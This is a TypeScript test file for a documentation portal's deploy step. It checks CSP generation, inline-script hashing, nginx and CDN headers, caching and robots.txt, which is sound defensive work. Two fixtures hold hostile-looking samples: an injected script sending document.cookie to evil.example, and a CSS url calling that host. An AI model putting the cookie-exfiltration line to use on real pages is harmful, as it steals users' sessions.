import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {createSiteStorage} from '@docusaurus/core/lib/server/storage';
import {DataAttributeQueryStringInlineJavaScript, getThemeInlineScript} from '@docusaurus/theme-classic/lib/inlineScripts';
import {CONSOLE_ORIGINS_FILE, HEADERS_MANIFEST, NGINX_HEADERS_FILE, StaticDeployFileError, writeDeployFiles} from '../../lib/deploy';
import {
  CACHE_CONTROL,
  STRICT_TRANSPORT_SECURITY,
  cacheRules,
  contentSecurityPolicy,
  headersManifest,
  nginxHeaders,
  robotsTxt,
  securityHeaders,
  type CacheKind,
} from '../../lib/deploy/policy';
import {allowedInlineHashes, cspHash, inlineScripts, knownInlineCode} from '../../lib/deploy/inline';
import {APP_START_SCRIPT, BASE_URL, HOSTS, NOSCRIPT_CSS} from '../../lib/portal/config';
import {REDIRECT_KEEP_HASH_SCRIPT} from '../../lib/portal/redirect';

/** A policy's directives by name. */
const directivesOf = (csp: string): Record<string, string[]> =>
  Object.fromEntries(csp.split('; ').map((directive) => [directive.split(' ')[0]!, directive.split(' ').slice(1)]));

describe('the headers a host sends with the portal', () => {
  test('inline scripts are found, but not scripts with src nor data blocks', () => {
    const html =
      '<script src=/portal/a.js defer></script><script>a()</script><script data-rh=true>b()</script><script type="application/ld+json">{"x":1}</script><script type=module>c()</script>';
    expect(inlineScripts(html)).toEqual(['a()', 'b()', 'c()']);
  });

  test('a script hash is the SHA-256 source expression browsers compute', () => {
    // echo -n "alert(1)" | openssl dgst -sha256 -binary | base64
    expect(cspHash('alert(1)')).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
  });

  test('the policy allows own scripts and the hashed ones, never eval or inline scripts', () => {
    const csp = contentSecurityPolicy({scriptHashes: ["'sha256-b'", "'sha256-a'"], connectOrigins: ['https://apm.example']});
    const directives = directivesOf(csp);
    expect(directives['script-src']).toEqual(["'self'", "'sha256-a'", "'sha256-b'"]);
    expect(directives['connect-src']).toEqual(["'self'", 'https://apm.example']);
    expect(directives['frame-ancestors']).toEqual(["'none'"]);
    expect(directives['object-src']).toEqual(["'none'"]);
    expect(csp).not.toContain('unsafe-eval');
    expect(directives['script-src']).not.toContain("'unsafe-inline'");
  });

  test('style elements only from the portal and the known hashes, style attributes inline (React sets them)', () => {
    const directives = directivesOf(contentSecurityPolicy({scriptHashes: [], styleHashes: ["'sha256-s'"], connectOrigins: []}));
    expect(directives['style-src-elem']).toEqual(["'self'", "'sha256-s'"]);
    expect(directives['style-src-attr']).toEqual(["'unsafe-inline'"]);
    // Browsers without -elem and -attr fall back to style-src: no wider than style-src-elem.
    expect(directives['style-src']).toEqual(["'self'", "'sha256-s'"]);
  });

  test('nginx gets one add_header line per header, sent on errors too, HSTS first', () => {
    const lines = nginxHeaders(securityHeaders("default-src 'self'"), CACHE_CONTROL.live)
      .split('\n')
      .filter((line) => line.startsWith('add_header'));
    expect(lines[0]).toBe(`add_header Strict-Transport-Security "${STRICT_TRANSPORT_SECURITY}" always;`);
    expect(lines).toContain('add_header X-Content-Type-Options "nosniff" always;');
    expect(lines).toContain('add_header Referrer-Policy "strict-origin-when-cross-origin" always;');
    expect(lines.every((line) => line.endsWith(' always;'))).toBe(true);
  });

  test('HSTS holds for a year, on the host and below it', () => {
    expect(STRICT_TRANSPORT_SECURITY).toBe('max-age=31536000; includeSubDomains');
  });

  test('a header value nginx would read as a variable is refused', () => {
    expect(() => nginxHeaders([['X-Test', 'a$b']], CACHE_CONTROL.live)).toThrow(/"\$"/);
  });

  test('the CDN manifest has HSTS and the security headers on every path and a cache rule per kind of file', () => {
    const manifest = headersManifest(securityHeaders("default-src 'self'"), cacheRules('live'));
    expect(manifest).toMatch(/^\/\*\n {2}Strict-Transport-Security: max-age=31536000; includeSubDomains\n {2}Content-Security-Policy: default-src 'self'$/m);
    expect(manifest).toContain('/portal/assets/*\n  Cache-Control: public, max-age=31536000, immutable');
    expect(cacheRules('live').map((rule) => rule.pattern)).toEqual(['/portal/assets/*', '/portal/common/*', '/*']);
  });

  test('live caching: assets public for a year, icons a day, everything else revalidated', () => {
    expect(cacheRules('live').map((rule) => rule.cacheControl)).toEqual(['public, max-age=31536000, immutable', 'public, max-age=86400', 'no-cache']);
  });

  test('internal caching: every response private, so no shared cache stores it', () => {
    expect(cacheRules('internal').map((rule) => rule.cacheControl)).toEqual([
      'private, max-age=31536000, immutable',
      'private, max-age=86400',
      'private, no-cache',
    ]);
    for (const value of Object.values(CACHE_CONTROL.internal)) {
      expect(value).toMatch(/^private\b/);
    }
  });

  test('only the live portal is open to crawlers, and it names its sitemap', () => {
    expect(robotsTxt({indexed: true, sitemapUrl: 'https://x.example/portal/sitemap.xml'})).toBe(
      'User-agent: *\nAllow: /portal/\n\nSitemap: https://x.example/portal/sitemap.xml\n',
    );
    expect(robotsTxt({indexed: false, sitemapUrl: 'unused'})).toBe('User-agent: *\nDisallow: /\n');
  });
});

describe('the inline code a build may contain', () => {
  const colourMode = (flavour: 'live' | 'internal') => knownInlineCode(flavour).find((code) => code.name.includes('colour-mode'))!;

  test.each(['live', 'internal'] as const)('%s: the colour-mode script is the one the installed theme writes for our settings and host', (flavour) => {
    const siteStorage = createSiteStorage({url: `https://${HOSTS[flavour]}`, baseUrl: BASE_URL, storage: {type: 'localStorage', namespace: true}} as never);
    const theme = getThemeInlineScript({colorMode: {disableSwitch: false, defaultMode: 'light', respectPrefersColorScheme: true}, siteStorage} as never);
    // How @docusaurus/theme-classic's injectHtmlTags joins them, without an announcement bar.
    expect(colourMode(flavour).text).toBe(`\n${theme}\n${DataAttributeQueryStringInlineJavaScript}\n\n            `);
  });

  test('the list: the colour-mode, redirect and app-start scripts, and the no-JavaScript styles', () => {
    const known = knownInlineCode('live');
    expect(known.map((code) => code.kind)).toEqual(['script', 'script', 'script', 'style']);
    expect(known.map((code) => code.text)).toEqual(expect.arrayContaining([REDIRECT_KEEP_HASH_SCRIPT, APP_START_SCRIPT, NOSCRIPT_CSS]));
  });

  test('the hashes are those of the known code the pages hold; scripts with src and data blocks are not inline code', () => {
    const known = knownInlineCode('internal');
    const pages = [
      {
        file: 'a.html',
        html: `<script>${colourMode('internal').text}</script><script src="/portal/x.js"></script><script type="application/ld+json">{"a":1}</script>`,
      },
      {file: 'b.html', html: `<script data-rh="true">${REDIRECT_KEEP_HASH_SCRIPT}</script><noscript><style>${NOSCRIPT_CSS}</style></noscript>`},
    ];
    expect(allowedInlineHashes(pages, known)).toEqual({
      scriptHashes: [cspHash(colourMode('internal').text), cspHash(REDIRECT_KEEP_HASH_SCRIPT)].sort(),
      styleHashes: [cspHash(NOSCRIPT_CSS)],
    });
  });

  test("one flavour's colour-mode script is not the other's", () => {
    expect(() => allowedInlineHashes([{file: 'a.html', html: `<script>${colourMode('internal').text}</script>`}], knownInlineCode('live'))).toThrow(
      /Inline code the Content-Security-Policy does not allow/,
    );
  });

  test('an unknown inline script fails with its file, line, hash and what to do', () => {
    const html = '<!doctype html>\n<html><head>\n<script>window.injected=1</script></head><body></body></html>';
    const pages = [
      {file: 'live build, rest/a.html', html},
      {file: 'live build, rest/b.html', html},
    ];
    expect(() => allowedInlineHashes(pages, knownInlineCode('live'))).toThrow(
      [
        'Inline code the Content-Security-Policy does not allow (it allows only the inline scripts and <style> elements listed in lib/deploy/inline.ts):',
        `  live build, rest/a.html:3 (and 1 more file): inline script "window.injected=1", ${cspHash('window.injected=1')}`,
        'Move the code into a file the page loads (a module under src/, a stylesheet, or a file under static/), or render it without',
        'dangerouslySetInnerHTML if it came from content. If Docusaurus changed one of its own after an upgrade, review the new text and',
        `update knownInlineCode in lib/deploy/inline.ts. The list today: ${knownInlineCode('live')
          .map((code) => code.name)
          .join('; ')}.`,
      ].join('\n'),
    );
  });

  test('an unknown <style> element fails too', () => {
    expect(() => allowedInlineHashes([{file: 'a.html', html: '<style>body{background:url(//evil.example)}</style>'}], knownInlineCode('live'))).toThrow(
      /a\.html:1: inline style "body\{background:url\(\/\/evil\.example\)\}"/,
    );
  });
});

describe('deploy/nginx/portal.conf', () => {
  const conf = fs.readFileSync(path.join(__dirname, '..', '..', 'deploy', 'nginx', 'portal.conf'), 'utf8');
  /** Each location's own lines (a nested location is its own). */
  const locations = (() => {
    const found: {name: string; body: string[]}[] = [];
    const stack: {name: string; body: string[]}[] = [];
    for (const line of conf.split('\n').map((text) => text.replace(/#.*$/, '').trim())) {
      const opens = /^location\s+(.+?)\s*\{$/.exec(line);
      if (opens) {
        stack.push({name: opens[1]!, body: []});
      } else if (line === '}' && stack.length > 0) {
        found.push(stack.pop()!);
      } else if (stack.length > 0 && line !== '') {
        stack.at(-1)!.body.push(line);
      }
    }
    return found;
  })();

  test('every location includes the generated headers first and sends a Cache-Control the generated file sets', () => {
    const generated = nginxHeaders(securityHeaders("default-src 'self'"), CACHE_CONTROL.internal);
    expect(locations.length).toBeGreaterThan(10);
    for (const {name, body} of locations) {
      // First: its `set` lines must run before a `return` or `rewrite` ends the location's rewrite phase.
      const first = body.find((line) => line !== 'internal;');
      expect({name, first}).toEqual({name, first: 'include portal-headers.conf;'});
      const variable = body.map((line) => /^add_header Cache-Control (\$portal_cache_[a-z]+) always;$/.exec(line)?.[1]).find(Boolean);
      expect({name, variable: variable !== undefined && generated.includes(`set ${variable} `)}).toEqual({name, variable: true});
      // Besides: the pages' content negotiation and discovery (issue 35), `Vary: Accept` and the `Link` to llms.txt and the API catalog.
      const own =
        name === '/portal/'
          ? /^add_header (Cache-Control|Vary Accept|Link) /
          : name === '~ \\.md$'
            ? /^add_header (Cache-Control|Vary Accept) /
            : /^add_header Cache-Control /;
      expect(body.filter((line) => line.startsWith('add_header') && !own.test(line))).toEqual([]);
    }
  });

  test('the generated include sets every kind for the flavour: all private on internal', () => {
    const sets = (flavour: 'live' | 'internal') =>
      Object.fromEntries(
        [...nginxHeaders([], CACHE_CONTROL[flavour]).matchAll(/^set \$portal_cache_([a-z]+) "([^"]*)";$/gm)].map((match) => [match[1] as CacheKind, match[2]]),
      );
    expect(sets('internal')).toEqual({
      assets: 'private, max-age=31536000, immutable',
      icons: 'private, max-age=86400',
      pages: 'private, no-cache',
      redirects: 'private, no-cache',
    });
    // Live as before; its redirects send no Cache-Control (nginx sends no header for an empty value).
    expect(sets('live')).toEqual({assets: 'public, max-age=31536000, immutable', icons: 'public, max-age=86400', pages: 'no-cache', redirects: ''});
  });
});

describe('the "Try it" consoles\' origins in the CSP of a build', () => {
  let outDir: string;

  beforeEach(() => {
    outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'portal-deploy-'));
    fs.writeFileSync(path.join(outDir, 'index.html'), `<!doctype html><html><head><script>${REDIRECT_KEEP_HASH_SCRIPT}</script></head><body></body></html>`);
  });

  afterEach(() => {
    fs.rmSync(outDir, {recursive: true, force: true});
  });

  /** The directives of the CSP the build's nginx headers and CDN manifest send (they must agree). */
  const builtDirectives = (dir: string): Record<string, string[]> => {
    const nginx = fs.readFileSync(path.join(dir, NGINX_HEADERS_FILE), 'utf8');
    const fromNginx = /add_header Content-Security-Policy "([^"]+)" always;/.exec(nginx)?.[1];
    const fromManifest = /^ {2}Content-Security-Policy: (.+)$/m.exec(fs.readFileSync(path.join(dir, HEADERS_MANIFEST), 'utf8'))?.[1];
    expect(fromNginx).toBeDefined();
    expect(fromManifest).toBe(fromNginx);
    return directivesOf(fromNginx!);
  };

  const writeOrigins = (origins: unknown) => {
    fs.mkdirSync(path.join(outDir, path.dirname(CONSOLE_ORIGINS_FILE)), {recursive: true});
    fs.writeFileSync(path.join(outDir, CONSOLE_ORIGINS_FILE), JSON.stringify(origins));
  };

  test('the file is where the reference writes it', () => {
    expect(CONSOLE_ORIGINS_FILE).toBe('_deploy/console-origins.json');
  });

  test('connect-src lists exactly the origins the reference wrote', async () => {
    const origins = ['http://127.0.0.1:4010', 'https://api.lindenkauf.example', 'https://auth.lindenkauf.example'];
    writeOrigins(origins);
    await writeDeployFiles(outDir, 'internal', {});
    const directives = builtDirectives(outDir);
    expect(directives['connect-src']).toEqual(["'self'", ...origins]);
    // Only connect-src: the console's origins run no scripts and are no frames.
    expect(directives['script-src']).toEqual(["'self'", cspHash(REDIRECT_KEEP_HASH_SCRIPT)]);
    expect(directives['default-src']).toEqual(["'self'"]);
  });

  test('with the APM server too, each origin once', async () => {
    writeOrigins(['https://api.lindenkauf.example', 'https://apm.lindenkauf.example']);
    await writeDeployFiles(outDir, 'live', {PORTAL_APM_SERVER_URL: 'https://apm.lindenkauf.example/intake'});
    expect(builtDirectives(outDir)['connect-src']).toEqual(["'self'", 'https://apm.lindenkauf.example', 'https://api.lindenkauf.example']);
  });

  test('without the file, connect-src is the portal itself, and the APM server where one is set', async () => {
    await writeDeployFiles(outDir, 'live', {});
    expect(builtDirectives(outDir)['connect-src']).toEqual(["'self'"]);
    await writeDeployFiles(outDir, 'live', {PORTAL_APM_SERVER_URL: 'https://apm.lindenkauf.example/intake'});
    expect(builtDirectives(outDir)['connect-src']).toEqual(["'self'", 'https://apm.lindenkauf.example']);
  });

  test('an empty list adds nothing', async () => {
    writeOrigins([]);
    await writeDeployFiles(outDir, 'live', {});
    expect(builtDirectives(outDir)['connect-src']).toEqual(["'self'"]);
  });
});

describe('writing the deploy files of a build', () => {
  let outDir: string;

  beforeEach(() => {
    outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'portal-deploy-'));
  });

  afterEach(() => {
    fs.rmSync(outDir, {recursive: true, force: true});
  });

  test('a page with an inline script not on the list fails the build, naming the page', async () => {
    fs.mkdirSync(path.join(outDir, 'rest'));
    fs.writeFileSync(path.join(outDir, 'rest', 'a.html'), '<html><body>\n<script>fetch("//evil.example?"+document.cookie)</script></body></html>');
    await expect(writeDeployFiles(outDir, 'live', {})).rejects.toThrow(`live build, ${path.join('rest', 'a.html')}:2: inline script "fetch(`);
    expect(fs.existsSync(path.join(outDir, NGINX_HEADERS_FILE))).toBe(false);
  });

  test('a robots.txt or _headers from static/ fails the build, naming the file, what makes it and the fix, before anything is written', async () => {
    fs.writeFileSync(path.join(outDir, 'index.html'), '<html><body><p>Home</p></body></html>');
    fs.writeFileSync(path.join(outDir, 'robots.txt'), 'User-agent: *\nAllow: /\n');
    const robots = writeDeployFiles(outDir, 'live', {});
    await expect(robots).rejects.toThrow(StaticDeployFileError);
    await expect(robots).rejects.toThrow(
      "static/robots.txt: the deploy step makes the build's robots.txt from the flavour (robotsTxt in lib/deploy/policy.ts: live is indexed and names " +
        'its sitemap, internal disallows everything) and would overwrite this one, which Docusaurus copied from static/. Remove static/robots.txt; ' +
        'to change what robots.txt says, change robotsTxt in lib/deploy/policy.ts.',
    );
    fs.writeFileSync(path.join(outDir, HEADERS_MANIFEST), '/*\n  X-Frame-Options: SAMEORIGIN\n');
    const both = writeDeployFiles(outDir, 'live', {});
    await expect(both).rejects.toThrow('static/robots.txt: ');
    await expect(both).rejects.toThrow(
      "\nstatic/_headers: the deploy step makes the build's _headers from the CSP and the caching rules (contentSecurityPolicy, securityHeaders and " +
        'cacheRules in lib/deploy/policy.ts) and would overwrite this one, which Docusaurus copied from static/. Remove static/_headers; ' +
        'to change a header or a caching rule, change the policy in lib/deploy/policy.ts.',
    );
    expect(fs.readFileSync(path.join(outDir, 'robots.txt'), 'utf8')).toBe('User-agent: *\nAllow: /\n');
    expect(fs.existsSync(path.join(outDir, NGINX_HEADERS_FILE))).toBe(false);
  });

  test('without them in static/, the build gets the flavour’s robots.txt and _headers', async () => {
    fs.writeFileSync(path.join(outDir, 'index.html'), '<html><body><p>Home</p></body></html>');
    await writeDeployFiles(outDir, 'live', {});
    expect(fs.readFileSync(path.join(outDir, 'robots.txt'), 'utf8')).toBe(
      robotsTxt({indexed: true, sitemapUrl: `https://${HOSTS.live}${BASE_URL}sitemap.xml`}),
    );
    expect(fs.readFileSync(path.join(outDir, HEADERS_MANIFEST), 'utf8')).toContain('Content-Security-Policy: ');
  });

  test('the internal build sends private Cache-Control in both the nginx include and the CDN manifest, with HSTS in both', async () => {
    fs.writeFileSync(path.join(outDir, 'index.html'), `<html><head><noscript><style>${NOSCRIPT_CSS}</style></noscript></head></html>`);
    await writeDeployFiles(outDir, 'internal', {});
    const nginx = fs.readFileSync(path.join(outDir, NGINX_HEADERS_FILE), 'utf8');
    const manifest = fs.readFileSync(path.join(outDir, HEADERS_MANIFEST), 'utf8');
    expect(nginx).toContain('set $portal_cache_assets "private, max-age=31536000, immutable";');
    expect([...manifest.matchAll(/^ {2}Cache-Control: (.+)$/gm)].map((match) => match[1])).toEqual([
      'private, max-age=31536000, immutable',
      'private, max-age=86400',
      'private, no-cache',
    ]);
    expect(nginx).toContain(`add_header Strict-Transport-Security "${STRICT_TRANSPORT_SECURITY}" always;`);
    expect(manifest).toContain(`  Strict-Transport-Security: ${STRICT_TRANSPORT_SECURITY}\n`);
    expect(directivesOf(/^ {2}Content-Security-Policy: (.+)$/m.exec(manifest)![1]!)['style-src-elem']).toEqual(["'self'", cspHash(NOSCRIPT_CSS)]);
  });
});
